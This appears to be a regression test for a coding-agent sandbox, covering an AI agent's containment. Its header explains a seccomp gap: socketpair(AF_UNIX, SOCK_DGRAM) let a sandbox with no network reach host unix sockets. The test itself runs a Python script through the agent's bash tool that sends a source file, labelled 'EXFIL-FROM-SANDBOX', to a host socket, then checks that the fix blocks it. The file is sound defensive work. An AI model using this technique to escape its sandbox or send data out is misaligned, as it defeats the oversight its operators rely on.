/**
 * ESCAPE REPRODUCTION (outside attack X2, 2026-12-02), now the regression test of its fix:
 * src/sandbox/wrap-in-sandbox.ts runs every sandboxed command through native/polywave-seccomp.c,
 * which refuses socketpair(AF_UNIX, <anything but SOCK_STREAM>). The claude-code backend, whose Bash
 * runs in Claude Code's own sandbox, gets the same filter through CLAUDE_CODE_SHELL_PREFIX
 * (test/sandbox-escape-claude-code.test.ts).
 *
 * README's safety table: "with no host allowed (the default) it has only a loopback interface". sandbox-runtime's seccomp helper blocks socket(AF_UNIX, …) but not
 * socketpair(AF_UNIX, SOCK_DGRAM, …); a datagram socket made that way may sendto() any
 * filesystem unix socket it can see — and `/` is bound read-only into the sandbox, so it sees
 * every one of the host's (journald's /run/systemd/journal/socket, /dev/log, a user's services,
 * other tools'). connect() on it to the host socket then also lets the host service answer:
 * a two-way channel. Shown here on the default plan (no sandbox.network.allow: the isolated wrap
 * without proxy) through the agent's real tool executor; the proxy path behaves the same.
 *
 * The host "service" is a real datagram socket (socat UNIX-RECV, a sandbox dependency) that
 * writes what it receives to a file; the agent's own python3 sends to it.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createJail } from '../src/agents/jail/jail.js';
import { buildAgentSandboxPlan, createToolExecutor, type ToolExecutor } from '../src/agents/sandbox/index.js';
import { createAgentTools, runToolCall } from '../src/agents/tools/index.js';
import type { ToolContext } from '../src/agents/tools/types.js';
import { resetSandbox, sandboxStatus } from '../src/sandbox/index.js';
import type { TestRepo } from './support/git-repo.js';
import { createAgentLayout } from './support/agent-layout.js';

const available = (await sandboxStatus()).available;
const branch = 'polywave/dgram/wave1-agent-A';
const tools = new Map(createAgentTools().map((tool) => [tool.name, tool]));

let repo: TestRepo;
let executor: ToolExecutor | undefined;
let context: ToolContext;
let service: ChildProcess | undefined;
let socketPath: string;
let received: string;

beforeAll(async () => {
  if (!available) return;
  const layout = await createAgentLayout(branch);
  repo = layout.repo;
  const { worktree, home, tmp } = layout;
  // A host-side datagram service outside every writable path of the agent.
  mkdirSync(repo.sibling('host-run'), { recursive: true });
  socketPath = path.join(repo.sibling('host-run'), 'service.sock');
  received = path.join(repo.sibling('host-run'), 'received.txt');
  service = spawn('socat', ['-u', `UNIX-RECV:${socketPath}`, `OPEN:${received},creat,append`], { stdio: 'ignore' });
  for (let i = 0; i < 100 && !existsSync(socketPath); i += 1) await sleep(20);
  const env = { ...repo.env, HOME: home, TMPDIR: tmp } as Record<string, string>;
  const jail = await createJail({ root: worktree, ownedFiles: ['src/a.ts', 'send.py'], branch }, { env: repo.env });
  const plan = await buildAgentSandboxPlan({ root: jail.root, home, tmp, env: repo.env, userHome: repo.sibling('user-home') });
  expect(plan.allowedHosts).toEqual([]); // the default: no network at all
  executor = createToolExecutor(plan, { cwd: jail.root, env });
  context = { jail, env, signal: new AbortController().signal, toolTimeoutMs: 30_000, maxToolOutputBytes: 30_000, branch, sandbox: plan, toolExecutor: executor };
}, 60_000);

afterAll(async () => {
  service?.kill('SIGKILL');
  await executor?.stop();
  await resetSandbox();
});

describe.skipIf(!available)('no network: a sandboxed agent cannot reach a host unix datagram socket', () => {
  it('socketpair(AF_UNIX, SOCK_DGRAM) + sendto(<host socket>) from the agent\'s bash delivers nothing to the host', async () => {
    const script = [
      'import socket, sys',
      'a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)',
      "print('sent', a.sendto(b'EXFIL-FROM-SANDBOX ' + open('src/a.ts', 'rb').read(), sys.argv[1]))",
    ].join('\n');
    const write = await runToolCall(tools.get('write_file' as never)!, { path: 'send.py', content: `${script}\n` }, context, { denials: [] }, 'w1');
    expect(write.isError, write.output).toBe(false);
    // The host path reaches the script as data (base64), as any agent-computed path would.
    const encoded = Buffer.from(socketPath).toString('base64');
    const result = await runToolCall(tools.get('bash' as never)!, { command: `python3 send.py "$(echo ${encoded} | base64 -d)"; echo "exit=$?"` }, context, { denials: [] }, 'b1');
    await sleep(300);
    const got = existsSync(received) ? readFileSync(received, 'utf8') : '';
    // Today: the output says "sent 39" and the host service received "EXFIL-FROM-SANDBOX export const a = 1;".
    expect(got, `the host service received a datagram from the sandbox; agent output: ${result.output}`).toBe('');
    expect(result.output).toMatch(/Operation not permitted|Permission denied|No such file|Connection refused/);
  }, 60_000);
});
